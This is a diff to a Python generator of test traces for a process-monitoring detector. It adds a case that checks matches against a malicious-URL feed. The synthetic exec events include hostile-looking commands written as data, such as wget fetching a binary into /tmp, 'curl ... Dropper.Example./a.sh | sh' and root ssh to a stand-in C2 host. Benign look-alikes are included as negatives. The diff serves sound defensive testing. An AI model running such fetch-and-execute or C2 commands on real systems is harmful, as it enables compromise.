@@ -693,6 +693,25 @@ def rules_wait():
     t.write()
 
 
+def rules_urls():
+    t = Trace("rules-urls")
+    t.comment("Malicious URL Observed against testdata/intel/example-urls.txt (--url-feed): URLs and hosts in command lines")
+    t.comment("a listed URL (the feed writes it HTTP://...:80/...), run twice: one finding, count 2")
+    t.exec(300, 1, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/bins/x86", "-O", "/tmp/x"], WORKER)
+    t.exec(301, 1, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/bins/x86", "-O", "/tmp/x"], WORKER)
+    t.comment("a URL on a listed host (case and trailing dot differ), inside a shell's -c string")
+    t.exec(302, 1, "/bin/sh", ["sh", "-c", "curl -fsSL https://Dropper.Example./a.sh | sh"], WORKER, binary="/usr/bin/dash")
+    t.comment("a name under a listed domain, named alone (ssh user@host)")
+    t.exec(303, 1, "/usr/bin/ssh", ["ssh", "-p", "2222", "root@node7.c2.example"], WORKER)
+    t.comment("look-alikes that stay quiet: another path on the listed URL's host, a name that only ends like the domain,")
+    t.comment("a URL the feed does not list, file names that look like host names")
+    t.exec(400, 1, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/bins/arm"], WORKER)
+    t.exec(401, 1, "/usr/bin/curl", ["curl", "-s", "https://notc2.example/"], WORKER)
+    t.exec(402, 1, "/usr/bin/curl", ["curl", "-s", "https://registry.npmjs.org/express"], WORKER)
+    t.exec(403, 1, "/usr/bin/tar", ["tar", "xzf", "release.tar.gz", "-C", "/opt/app.d"], WORKER)
+    t.write()
+
+
 def malformed():
     t = Trace("malformed-lines")
     t.comment("bad lines are reported with line number and field, skipped, and the rest still detected")
@@ -710,5 +729,5 @@ def malformed():
 
 if __name__ == "__main__":
     for f in (rce_bash_dev_tcp, rce_nc_e, rce_busybox_nc_e, rce_python, rce_perl, rce_socat, rce_mkfifo,
-              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, rules, rules_piped, rules_wait, malformed):
+              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, rules, rules_piped, rules_wait, rules_urls, malformed):
         f()
